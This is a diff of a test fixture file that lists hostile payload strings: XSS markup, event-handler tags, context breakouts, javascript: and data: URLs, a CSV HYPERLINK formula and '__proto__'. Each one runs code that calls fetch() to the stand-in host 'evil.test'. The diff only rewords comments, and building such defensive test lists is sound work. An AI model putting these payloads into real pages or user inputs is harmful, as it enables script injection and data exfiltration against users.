@@ -1,9 +1,9 @@
-/** Where a payload that runs or loads something would go; nothing must ever ask for it. */
+/** Address that a payload requests when it runs or loads something; must never be requested. */
 const away = 'https://evil.test';
-/** What a payload does when it runs: leaves a mark on the page, and asks for something elsewhere. */
+/** Code of a payload: marks the page, and requests an external address. */
 const run = `document.documentElement.dataset.ran=1;fetch('${away}/ran')`;
 
-/** Texts that a page, a file name, a model or a JSON value may hold in order to run in, or load into, the page that shows them. */
+/** Texts in a page, file name, model reply or JSON value that try to run or load something in the page that shows them. */
 export const hostilePayloads = [
   // Markup that runs.
   `<script>${run}</script>`,
@@ -29,7 +29,7 @@ export const hostilePayloads = [
   `<div style="animation:x" onanimationstart="${run}">`,
   `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
   `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
-  // Ways out of where a text is.
+  // Breaking out of the surrounding context.
   `"><script>${run}</script>`,
   `'-${run}-'`,
   `</textarea><script>${run}</script>`,
@@ -56,7 +56,7 @@ export const hostilePayloads = [
   `[click](data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC5kb2N1bWVudEVsZW1lbnQuZGF0YXNldC5yYW49MTwvc2NyaXB0Pg==)`,
   `<${away}/autolink>`,
   `\`\`\`html\n<script>${run}</script>\n\`\`\``,
-  // Other formats, and text that only looks different.
+  // Other formats, and look-alike characters.
   `javascript:${run}`,
   `=HYPERLINK("${away}/csv","x")`,
   '__proto__',
